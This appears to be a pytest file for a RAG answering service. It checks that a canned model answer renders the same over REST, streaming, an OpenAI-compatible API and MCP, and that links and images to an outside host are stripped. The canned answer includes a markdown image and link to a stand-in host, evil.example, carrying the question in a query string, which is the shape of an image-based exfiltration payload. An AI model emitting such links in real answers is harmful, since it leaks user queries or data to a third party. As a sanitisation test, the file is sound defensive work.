"""An answer with code, a table, a list and a link, as each client of the service gets it."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest

from ragways.tasks.answers import STYLES
from ragways.testing import LoopbackServer
from tests.service.conftest import RunningServer, serving
from tests.service.test_mcp import connected, said

QUESTION = "How do I set a timeout at the Pell Rock Lighthouse?"
WROTE = """Set `timeout` on the call [1].

```python
requests.get("https://api.example.com/v1?a=1&b=2", timeout=5)
x: List<Item> = items[0]  # [2]
```

- Data: 5 rows [1]
- items[0] (y)

| limit | seconds |
|---|---|
| connect | 5 [1] |

See [the guide](https://evil.example/?q=timeout) ![pixel](https://evil.example/p?q=timeout)."""
LEAVES = WROTE.replace("[the guide](https://evil.example/?q=timeout)", "the guide").replace(
    "![pixel](https://evil.example/p?q=timeout)", "pixel"
)


@pytest.fixture(scope="module")
def model() -> Iterator[LoopbackServer]:
    with LoopbackServer(lambda _: WROTE) as served:
        yield served


@pytest.fixture(scope="module")
def server(model: LoopbackServer, lights: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    environment = {
        "RAGWAYS_SERVE__WORKERS": "1", "RAGWAYS_MODEL__BASE_URL": model.base_url, "RAGWAYS_MODEL__NAME": "loopback",
    }  # fmt: skip
    data = tmp_path_factory.mktemp("markdown") / "data"
    with serving(data, "--index", str(lights), environment=environment) as running:
        yield running


def system_of_last(model: LoopbackServer) -> str:
    return system_of(model.requests[-1].body)


def system_of(body: Any) -> str:
    return str(body["messages"][0]["content"])


def test_over_rest_whole_and_streamed(server: RunningServer, model: LoopbackServer, lights: Path):
    asked: dict[str, Any] = {"question": QUESTION, "paradigm": "words"}
    with httpx2.Client(base_url=f"{server.url}/api/v1/collections/{lights.name}", timeout=60) as client:
        whole = client.post("/ask", json=asked).json()
        assert whole["answer"] == LEAVES
        assert STYLES["brief"] in system_of_last(model)
        client.post("/ask", json={**asked, "rendered": True, "question": f"{QUESTION} Again?"})
        assert STYLES["full"] in system_of_last(model), "as on the page"
        lines = client.post("/ask", json={**asked, "stream": True}).text.splitlines()
    events = [json.loads(line[6:]) for line in lines if line.startswith("data: ")]
    pieces = [event for event in events if "restart" in event]
    assert [piece["restart"] for piece in pieces] == [True] + [False] * (len(pieces) - 1)
    assert "".join(piece["text"] for piece in pieces) == LEAVES
    assert [LEAVES[start:end] for start, end in whole["uncited"]] == ["- items[0] (y)", "See the guide pixel."]


def test_for_the_client_of_openai(server: RunningServer, model: LoopbackServer, lights: Path):
    asked: dict[str, Any] = {"model": f"{lights.name}/words", "messages": [{"role": "user", "content": QUESTION}]}
    with openai.OpenAI(base_url=f"{server.url}/v1", api_key="none") as client:
        assert client.chat.completions.create(**asked).choices[0].message.content == LEAVES
        chunks = list(client.chat.completions.create(**asked, stream=True))
        client.chat.completions.create(**asked, extra_body={"ragways": {"style": "Answer as a pirate."}})
        assert "Answer as a pirate." in system_of_last(model)
    assert "".join(chunk.choices[0].delta.content or "" for chunk in chunks) == LEAVES
    systems = [system_of(request.body) for request in model.requests]
    assert any(STYLES["full"] in system for system in systems), "in a chat answers are full"


def test_over_mcp(server: RunningServer):
    async def talk() -> Any:
        async with connected(f"{server.url}/mcp") as client:
            return said(await client.call_tool("ask", {"question": QUESTION, "paradigm": "words"}))

    assert asyncio.run(talk())["answer"] == LEAVES
